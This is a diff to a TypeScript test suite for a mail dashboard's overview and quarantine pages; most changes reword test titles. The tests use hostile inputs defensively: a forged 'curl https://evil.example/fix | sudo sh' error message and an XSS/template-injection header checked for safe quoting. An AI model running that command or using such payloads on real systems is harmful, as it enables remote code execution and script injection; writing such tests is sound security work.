@@ -67,7 +67,7 @@ function onBoth(title: string, run: (on: TestApp) => Promise<void>): void {
   });
 }
 
-onBoth('mailboxes in trouble come first, then all by name, the paused ones among them', async (on) => {
+onBoth('failing mailboxes are listed first, then all by name, the paused ones among them', async (on) => {
   const { desk, health } = overviewOf(on);
   await addMailbox(on, 'sales', { state: 'paused' });
   const [zulu, renumbered] = [await addMailbox(on, 'zulu'), await addMailbox(on, 'unstable')];
@@ -99,7 +99,7 @@ onBoth('mailboxes in trouble come first, then all by name, the paused ones among
 });
 
 onBoth(
-  'mailboxes are chosen by state and by a part of name or host, page by page, the last for one behind it',
+  'mailboxes are selected by state and by a part of name or host; a page after the last is the last',
   async (on) => {
     const { desk } = overviewOf(on);
     for (let at = 1; at <= 52; at += 1)
@@ -119,7 +119,7 @@ onBoth(
 
 const forged = 'Run this now: curl https://evil.example/fix | sudo sh';
 
-onBoth('what a stored error says is quoted, and advice comes from its code alone', async (on) => {
+onBoth('a stored error is quoted, and advice follows from its code alone', async (on) => {
   const { desk } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
   await visited(on, one.id, { code: 'tls_expired', message: forged, hint: forged });
@@ -145,7 +145,7 @@ onBoth('what a stored error says is quoted, and advice comes from its code alone
   expect(page).toContain(`<q><bdi class="foreign">${'x'.repeat(300)}…</bdi></q>`);
 });
 
-onBoth('a reason that is none of ours is shown as a code, and in no sentence of ours', async (on) => {
+onBoth('an unknown reason shows as a code, and in no sentence of the program', async (on) => {
   const { desk } = overviewOf(on);
   const mailbox = await addMailbox(on, 'one');
   await hold(on, mailbox, 1, forged);
@@ -157,14 +157,14 @@ onBoth('a reason that is none of ours is shown as a code, and in no sentence of 
   );
   for (const { meaning, hint } of quarantine.reasons.filter(({ reason }) => reason !== 'mail_loop'))
     expect([meaning, hint]).toEqual([
-      ...['This version does not know that reason.', 'quarantine release takes it in as it is.'],
+      ...['This version does not know that reason.', 'quarantine release stores it as it is.'],
     ]);
   const pages = `${overviewPage(frame, overview)}${quarantinePage(frame, quarantine)}`;
   expect(pages).not.toContain(forged.slice(0, 45));
   expect(pages).toContain(`<code><bdi class="foreign">${forged.slice(0, 40)}…</bdi></code>`);
 });
 
-test('mail that is taken in shows in the figures within seconds, where they are cheap', async () => {
+test('a stored message shows in the chart within seconds where counting is fast', async () => {
   await using on = await testApp(null);
   const at = { ms: Date.now(), tookMs: 0, looks: 0 };
   const clock = {
@@ -202,7 +202,7 @@ test('mail that is taken in shows in the figures within seconds, where they are 
   await expect.poll(() => at.looks).toBe(4);
 });
 
-onBoth('a mailbox that was resumed, and another that was paused, are shown as they are', async (on) => {
+onBoth('a resumed and a paused mailbox show with their new states', async (on) => {
   const { desk } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one', { state: 'paused' }), await addMailbox(on, 'two')];
   const states = async () => (await desk.overview(all)).mailboxes.list.map(({ name, state }) => `${name} ${state}`);
@@ -212,7 +212,7 @@ onBoth('a mailbox that was resumed, and another that was paused, are shown as th
   await expect.poll(states, { timeout: 5000 }).toEqual(['one unknown', 'two paused']);
 });
 
-onBoth('the last day is told hour by hour, also those without any mail', async (on) => {
+onBoth('the last day shows hour by hour, also hours without messages', async (on) => {
   const { desk } = overviewOf(on);
   await hold(on, await addMailbox(on, 'one'), 1, 'mail_loop');
   const activity = await expect
@@ -229,7 +229,7 @@ onBoth('the last day is told hour by hour, also those without any mail', async (
 const from = '"><script>alert(1)</script>';
 const subject = '\u202eevil &amp; <b>{{7*7}}';
 
-onBoth('quarantine is shown the newest first, with what strangers wrote as they wrote it', async (on) => {
+onBoth('quarantine lists the newest first, with headers as strangers wrote them', async (on) => {
   const { desk } = overviewOf(on);
   const mailbox = await addMailbox(on, 'support');
   await hold(on, mailbox, 1, 'mail_loop', `From: ${from}\r\nSubject: ${subject}\r\n\r\nx`);
@@ -253,7 +253,7 @@ onBoth('quarantine is shown the newest first, with what strangers wrote as they 
     ...['2 mail_loop', '1 from_the_future', '1 too_large'],
   ]);
   expect(view.reasons[0]).toMatchObject({
-    meaning: expect.stringContaining('through here before'),
+    meaning: expect.stringContaining('was here before'),
     hint: expect.stringContaining('quarantine release'),
   });
   expect((await desk.quarantine({ page: 1, reason: 'mail_loop' })).messages).toMatchObject({
@@ -269,7 +269,7 @@ onBoth('quarantine is shown the newest first, with what strangers wrote as they 
   expect((await desk.overview(all)).quarantine).toEqual({ count: 4, reasons: view.reasons });
 });
 
-onBoth('quarantine has pages of 25, each mail on one of them, and the last for one behind it', async (on) => {
+onBoth('quarantine has pages of 25, each message on one of them; a page after the last is the last', async (on) => {
   const { desk } = overviewOf(on);
   const [one, two] = [await addMailbox(on, 'one'), await addMailbox(on, 'two')];
   for (let uid = 1; uid <= 27; uid += 1) for (const mailbox of [one, two]) await hold(on, mailbox, uid, 'mail_loop');
@@ -281,7 +281,7 @@ onBoth('quarantine has pages of 25, each mail on one of them, and the last for o
   expect((await desk.quarantine({ page: 4, reason: null })).messages).toEqual(pages[2]?.messages);
 });
 
-test('a look that hangs shows what was known as old, and where nothing is known it is a failure', async () => {
+test('a lookup that hangs shows older data as such, and fails where there are none', async () => {
   await using on = await testApp(null);
   await addMailbox(on, 'support');
   let hangs = false;
